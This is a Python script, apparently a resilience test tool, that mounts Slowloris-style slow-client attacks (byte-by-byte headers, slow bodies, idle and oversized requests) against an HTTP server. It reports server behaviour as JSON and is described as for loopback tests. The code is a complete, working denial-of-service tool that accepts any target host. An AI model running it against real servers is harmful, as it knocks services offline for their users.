#!/usr/bin/env python3
"""A slow-client attacker for an HTTP server (python3 standard library only):
many connections that each hold the server's attention as cheaply as possible.
For tests on loopback only.

Modes (--mode):
  headers   send a request's headers one byte every --every seconds, never
            finishing them (an endless stream of "X-Pad-N: ..." lines)
  body      send complete headers announcing a --body-size body, then the
            body one byte every --every seconds
  idle      connect and send nothing
  oversized send one request with a header line of --header-size bytes
            at once, then wait for the answer

Runs --connections connections for --duration seconds (opening them in
batches of 64, as a listen backlog allows), then prints one JSON object:
  opened            connections that were established
  refused           connection attempts that failed or timed out
  closed_by_server  connections the server closed (EOF or reset) while this
                    program still wanted them open
  open_at_end       connections still open when the time was up
  max_lifetime_s    the longest any closed connection lived, and
  lifetimes_s       min / median / max of their lifetimes
  statuses          HTTP statuses the server answered with, by count
Exit status 0 unless the arguments are wrong.

  slowloris.py --port N [--host 127.0.0.1] --mode MODE [--connections 100]
               [--every 1] [--duration 30] [--path /v1/reports]
               [--body-size 100000] [--header-size 20000] [--token TOKEN]
"""
import argparse
import errno
import json
import resource
import selectors
import socket
import statistics
import sys
import time


class Conn:
    def __init__(self, sock, opened_at, script):
        self.sock = sock
        self.opened_at = opened_at
        self.script = script  # bytes still to send, or a generator of chunks
        self.connected = False
        self.closed_at = None
        self.reply = b""
        self.next_send = 0.0


def endless_headers(path):
    yield ("POST %s HTTP/1.1\r\nHost: aggregator\r\n" % path).encode()
    n = 0
    while True:
        n += 1
        yield ("X-Pad-%d: %s\r\n" % (n, "a" * 20)).encode()


def byte_stream(chunks):
    """One byte at a time from a generator of chunks."""
    for chunk in chunks:
        for b in chunk:
            yield bytes([b])


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--mode", choices=["headers", "body", "idle", "oversized"], required=True)
    ap.add_argument("--connections", type=int, default=100)
    ap.add_argument("--every", type=float, default=1.0)
    ap.add_argument("--duration", type=float, default=30)
    ap.add_argument("--path", default="/v1/reports")
    ap.add_argument("--body-size", type=int, default=100000)
    ap.add_argument("--header-size", type=int, default=20000)
    ap.add_argument("--token")
    args = ap.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < args.connections + 64:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, args.connections + 64), hard))

    sel = selectors.DefaultSelector()
    conns = []
    refused = 0
    statuses = {}
    start = time.monotonic()
    end = start + args.duration
    to_open = args.connections

    def script():
        if args.mode == "headers":
            return byte_stream(endless_headers(args.path))
        if args.mode == "body":
            return slow_body()
        if args.mode == "oversized":
            return iter([("GET /healthz HTTP/1.1\r\nHost: aggregator\r\nX-Big: %s\r\n\r\n"
                          % ("a" * args.header_size)).encode()])
        return iter(())

    def slow_body():
        head = ("POST %s HTTP/1.1\r\nHost: aggregator\r\nContent-Type: application/msgpack\r\n"
                "Content-Length: %d\r\n" % (args.path, args.body_size))
        if args.token:
            head += "Authorization: Bearer %s\r\n" % args.token
        yield (head + "\r\n").encode()
        while True:
            yield b"\x00"

    def open_some(now):
        nonlocal to_open, refused
        for _ in range(min(64, to_open)):
            to_open -= 1
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            try:
                s.connect((args.host, args.port))
            except BlockingIOError:
                pass
            except OSError:
                refused += 1
                s.close()
                continue
            c = Conn(s, now, script())
            conns.append(c)
            sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, c)

    def close(c, now, by_server):
        if c.closed_at is not None:
            return
        c.closed_at = now
        c.by_server = by_server
        try:
            sel.unregister(c.sock)
        except (KeyError, ValueError):
            pass
        c.sock.close()

    def record_status(c):
        line = c.reply.split(b"\r\n", 1)[0].split()
        if len(line) >= 2 and line[0].startswith(b"HTTP/") and line[1].isdigit():
            statuses[line[1].decode()] = statuses.get(line[1].decode(), 0) + 1
            c.reply = b"\x00"  # counted once

    last_open = 0.0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        if to_open and now - last_open >= 0.05:
            open_some(now)
            last_open = now
        for key, events in sel.select(timeout=0.05):
            c = key.data
            if c.closed_at is not None:
                continue
            if events & selectors.EVENT_WRITE and not c.connected:
                err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    refused += 1
                    conns.remove(c)
                    close(c, now, False)
                    continue
                c.connected = True
                sel.modify(c.sock, selectors.EVENT_READ, c)
                c.next_send = now
            if events & selectors.EVENT_READ:
                try:
                    data = c.sock.recv(65536)
                except (ConnectionResetError, OSError):
                    data = b""
                if data:
                    if c.reply != b"\x00":
                        c.reply += data
                        record_status(c)
                else:
                    close(c, now, True)
        # the slow part: one chunk per connection every --every seconds
        for c in conns:
            if c.closed_at is None and c.connected and now >= c.next_send:
                chunk = next(c.script, None)
                c.next_send = now + args.every
                if chunk is None:
                    continue
                try:
                    c.sock.send(chunk)
                except BlockingIOError:
                    pass
                except OSError as e:
                    if e.errno in (errno.EPIPE, errno.ECONNRESET):
                        close(c, now, True)
        # a connection that never completes its handshake within 10 s is refused
        for c in list(conns):
            if not c.connected and c.closed_at is None and now - c.opened_at > 10:
                refused += 1
                conns.remove(c)
                close(c, now, False)

    now = time.monotonic()
    opened = [c for c in conns if c.connected]
    closed = [c for c in opened if c.closed_at is not None and c.by_server]
    lifetimes = sorted(c.closed_at - c.opened_at for c in closed)
    still = [c for c in opened if c.closed_at is None]
    for c in conns:
        close(c, now, False)
    out = {
        "mode": args.mode,
        "opened": len(opened),
        "refused": refused + to_open,
        "closed_by_server": len(closed),
        "open_at_end": len(still),
        "max_lifetime_s": round(lifetimes[-1], 2) if lifetimes else None,
        "lifetimes_s": [round(lifetimes[0], 2), round(statistics.median(lifetimes), 2),
                        round(lifetimes[-1], 2)] if lifetimes else [],
        "statuses": statuses,
    }
    json.dump(out, sys.stdout)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
